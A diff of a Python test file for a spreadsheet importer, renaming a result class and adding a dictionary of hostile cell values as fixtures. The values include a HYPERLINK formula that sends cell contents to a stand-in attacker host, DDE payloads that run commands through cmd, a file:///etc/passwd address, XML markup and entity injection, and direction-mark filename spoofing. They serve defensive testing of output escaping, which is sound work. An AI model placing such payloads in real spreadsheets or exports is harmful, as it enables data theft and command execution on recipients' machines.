@@ -11,9 +11,40 @@ import pandas as pd
 from python_calamine import CalamineWorkbook
 
 from importer.model import Batch, Checked, Column, Outcome, Problem, Severity, Sheet, State
-from importer.results import About, Part, write_workbook
+from importer.results import About, Page, write_workbook
 
 STARTED = datetime(2026, 11, 22, 14, 5, 9, tzinfo=UTC)
+HOSTILE = {
+    "a link formula": '=HYPERLINK("http://evil.example?x="&A1,"Click")',
+    "a DDE call": "=cmd|'/C calc'!A0",
+    "a DDE call without an equals sign": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "a plus": "+1+cmd|' /C calc'!A0",
+    "a minus": "-2+3+cmd|' /C calc'!A0",
+    "an array formula": "{=SUM(A1:A9)}",
+    "a tab first": "\t=1+1",
+    "a carriage return first": "\r=1+1",
+    "a line break inside": "a\n=1+1",
+    "an error text": "#N/A",
+    "an address": "https://evil.example/?q=a b",
+    "a file address": "file:///etc/passwd",
+    "a mail address": "mailto:a@evil.example",
+    "a link inside": "internal:'Summary'!A1",
+    "a link outside": "external:evil.xlsx#Sheet1!A1",
+    "markup": "</t></is></c><c><f>1+1</f></c>",
+    "our writer's own markup": "<r><t>=1</t></r>",
+    "an entity": "&lt;&#61;1&xxe;",
+    "the end of a section": "]]><!--",
+    "an escape of Excel": "_x003D_1+1",
+    "codes of a footer": '&F&"Arial"&A&G',
+    "quotes": "\"'!A1,'\"",
+    "control characters": "a\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff\ud800z",
+    "marks of direction": "\u202egnp.exe\u2066=1",
+    "40,000 characters": "=" + "x" * 39_999,
+    "40,000 pairs": "🚗" * 40_000,
+    "a number": "0012345",
+    "a truth": "TRUE",
+    "nothing but blanks": "   ",
+}
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
 
@@ -58,7 +89,7 @@ def problem(sheet, position, columns, **changes):
     return Problem(position, int(sheet.rows[position]), columns, **facts)
 
 
-def part_of(sheet, outcomes=None, problems=(), *, origins=None, notes=(), earlier=None):
+def part_of(sheet, outcomes=None, problems=(), *, origins=None, notes=(), earlier=None, news=None):
     skipped = np.zeros(len(sheet.rows), dtype=bool)
     batch = Batch(
         sheet,
@@ -73,7 +104,7 @@ def part_of(sheet, outcomes=None, problems=(), *, origins=None, notes=(), earlie
         outcomes = [
             Outcome(State.INVALID if at in held else State.PUSHED) for at in range(len(sheet.rows))
         ]
-    return Part(Checked(batch, tuple(problems), notes=notes), outcomes, earlier or {})
+    return Page(Checked(batch, tuple(problems), notes=notes), outcomes, earlier or {}, news or {})
 
 
 def about_of(**changes):
